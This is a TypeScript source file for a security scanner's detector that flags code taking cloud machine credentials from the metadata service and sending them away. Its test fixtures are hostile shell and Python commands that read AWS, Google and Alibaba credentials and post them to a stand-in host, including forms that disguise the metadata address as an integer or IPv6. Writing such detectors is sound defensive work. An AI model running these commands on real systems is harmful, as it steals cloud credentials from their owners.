import type { Effect, FetchEffect } from '../trace/effect.ts';
import { render } from '../trace/value.ts';
import { addressTraits } from './addresses.ts';
import { destinationOf, leaves, metadataHosts } from './destinations.ts';
import type { Detector, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip } from './wording.ts';

/** Cloud credentials asked of the metadata service. */
export const metadataCredentials: Detector = {
  id: 'metadata-credentials',
  version: 1,
  title: 'Takes the credentials of the cloud machine it runs on.',
  attack: ['T1552.005', 'T1528'],
  description: `
Every cloud gives its machines credentials under a fixed address (169.254.169.254 and others). Tools of the cloud use them, and
a script that logs in to a registry may. *Malicious* when what came from there is sent to somebody, or the address is written so
that it is not recognised (as an integer, in octal, inside IPv6); *suspicious* when the same code sends anything to an address
that is not the cloud's; a *note* otherwise. Asking for the region or the name of the machine is nothing.
`,
  fires: [
    {
      name: 'sent on',
      image: {
        cmd: [
          'sh',
          '-c',
          'r=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/); curl -d "$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$r)" https://c.example/',
        ],
      },
    },
    {
      name: 'through a file',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token > /tmp/t; curl -F f=@/tmp/t https://c.example/',
        ],
      },
    },
    {
      name: 'address as an integer',
      image: { cmd: ['sh', '-c', 'wget -qO /tmp/c http://2852039166/latest/meta-data/iam/security-credentials/role'] },
    },
    {
      name: 'address inside IPv6',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/role" -o /tmp/c',
        ],
      },
    },
    {
      name: 'in Python',
      image: {
        cmd: ['python3', '/m.py'],
        files: {
          '/m.py': [
            'import requests',
            "c = requests.get('http://100.100.100.200/latest/meta-data/ram/security-credentials/role').text",
            "requests.post('https://c.example/', data=c)",
          ].join('\n'),
        },
      },
    },
    {
      name: 'asked for, nothing else',
      severity: 'note',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > /run/creds; curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a > /run/c; exec app',
        ],
      },
    },
  ],
  silent: [
    {
      name: 'the region',
      image: {
        cmd: [
          'sh',
          '-c',
          'export AWS_REGION=$(curl -s http://169.254.169.254/latest/meta-data/placement/region); exec app',
        ],
      },
    },
    {
      name: 'a token for the cloud’s own interface',
      severity: 'note',
      image: {
        cmd: [
          'sh',
          '-c',
          'T=$(curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | jq -r .access_token); curl -H "Authorization: Bearer $T" -d @body.json https://storage.googleapis.com/upload; exec app',
        ],
      },
    },
  ],
  detect(scene) {
    return effectsOf(scene, 'fetch').flatMap((effect) => {
      const url = render(effect.url);
      const traits = addressTraits(render(effect.written ?? effect.url));
      if (!metadataHosts.has(traits.host) || !asksForCredentials(url)) return [];
      const sent = sentOn(scene, effect);
      const odd = traits.disguised;
      return findingOf(scene, sightingOf(scene, effect), {
        threat: odd || sent === 'sent' ? 'hostile' : sent === 'beside' ? 'dual-use' : 'minor',
        title: `Takes cloud credentials from the metadata service (${clip(url, 100)})${sent === 'sent' ? ' and sends them away' : ''}`,
        because: odd
          ? 'The address is written so that it is not recognised.'
          : sent === 'beside'
            ? 'The same code sends data to an address that is not the cloud’s.'
            : undefined,
        effects: [effect.id],
      });
    });
  },
};

/** Paths under which credentials are. Sources: AWS, ECS, EKS, Google, Azure, Alibaba, Tencent, Oracle documentation. */
const credentialPaths = [
  ...[
    '/iam/security-credentials',
    '/identity-credentials/ec2',
    '/service-accounts/',
    '/identity/oauth2/token',
    '/msi/token',
  ],
  ...[
    '/ram/security-credentials',
    '/cam/security-credentials',
    '/v2/credentials',
    '/v1/credentials',
    '/opc/v2/identity',
    '/opc/v1/identity',
  ],
  ...['/user-data', '/userdata', '/openstack/latest/user_data', '/attributes/kube-env', '/attributes/ssh-keys'],
];

function asksForCredentials(url: string): boolean {
  const lower = url.toLowerCase().replaceAll('\\', '/').replaceAll('//', '/');
  if (lower.includes('/service-accounts/'))
    return (
      /\/(token|identity|\?recursive|$)/.test(lower.slice(lower.indexOf('/service-accounts/') + 18)) ||
      lower.includes('/token')
    );
  return credentialPaths.some((path) => lower.includes(path));
}

/** What becomes of it: it is in what is sent; something is sent beside it; nothing. */
function sentOn(scene: Scene, effect: FetchEffect): 'sent' | 'beside' | undefined {
  const { stages, effects } = scene.story;
  const start = stages[effect.stage]?.start;
  let beside = false;
  for (const other of effects) {
    if (other.kind !== 'exfiltrate' || stages[other.stage]?.start !== start) continue;
    if (!leaves(destinationOf(other.to))) continue;
    if (other.stage === effect.stage) beside = true;
    if (carries(other, effect)) return 'sent';
  }
  return beside ? 'beside' : undefined;
}

function carries(sent: Extract<Effect, { kind: 'exfiltrate' }>, fetch: FetchEffect): boolean {
  const text = `${render(sent.what)} ${sent.holds ? render(sent.holds) : ''}`;
  const path = render(fetch.url)
    .replace(/^[a-z]+:[/\\]{0,4}[^/\\]{0,120}/i, '')
    .slice(0, 60);
  if (path.length > 12 && text.includes(path.slice(0, 40))) return true;
  if (fetch.to && text.includes(render(fetch.to))) return true;
  // A language that is not a shell names what it sends only by the method: the only thing it fetched is what it sends.
  return (
    fetch.command === undefined &&
    sent.command === undefined &&
    sent.line > fetch.line &&
    /‹(text|content|json|read|response|decode|.{0,40}\(\))›/.test(text)
  );
}
